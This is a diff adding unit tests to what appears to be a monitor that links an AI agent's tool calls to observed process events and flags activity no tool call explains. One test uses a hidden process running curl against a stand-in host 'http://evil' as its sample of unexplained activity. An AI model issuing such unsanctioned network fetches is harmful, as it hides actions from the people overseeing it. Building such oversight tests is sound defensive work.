@@ -63,6 +63,12 @@ def test_of_two_tools_that_run_at_once_the_arguments_decide() -> None:
     assert found.unexplained == {other.event_id}
 
 
+def test_a_program_that_began_before_the_trace_has_its_name() -> None:
+    """Its start is out of sight; each event tells how the process is called."""
+    before, begun = act("file.write", 10, 5, ppid=1, path="/w/a", command="agent"), act("process.exec", 20, 6, path="/bin/ls", command="sh")
+    assert [one.path for one in joined([], before, begun).processes] == ["agent", "/bin/ls"]
+
+
 def test_a_background_process_stays_with_the_tool_that_started_it() -> None:
     """Also when another tool runs by then."""
     start = act("process.exec", 20, 5.5, argv=("python", "serve.py"))
@@ -111,6 +117,18 @@ def test_what_no_span_tells_of_is_found() -> None:
     before = act("process.exec", 10, -1, ppid=1, argv=("agent",))
     found = joined([], hidden, dialled, failed, before)
     assert found.unexplained == {hidden.event_id, dialled.event_id}
+
+
+def test_what_tools_of_another_trace_did_in_the_same_process_is_theirs() -> None:
+    """An agent that is at work on two requests: nothing of the one is unexplained in the other, and what the other's tool was told to run is not this one's."""
+    theirs = [tool("b1", 5, 6, '{"command": "make -j"}'), tool("b2", 40, 41, '{"command": "git pull"}')]
+    make, pull = act("process.exec", 20, 5.5, argv=("make", "-j")), act("process.exec", 21, 40.5, argv=("git", "pull"))
+    hidden = act("process.exec", 22, 60, argv=("curl", "http://evil"))
+    strange = replace(theirs[1], span_id="c", pid=99, start_ns=60 * S, end_ns=61 * S)
+    mine = [AGENT, tool("a1", 39, 42, '{"query": "boats"}')]
+    found = join(mine, [make, pull, hidden], [], [WATCH], TRACE, others=[*theirs, strange])
+    assert (found.links, found.unexplained) == ({}, {hidden.event_id})
+    assert [process.link for process in found.processes] == [None] * 3
 
 
 def test_a_watched_program_is_its_run() -> None:
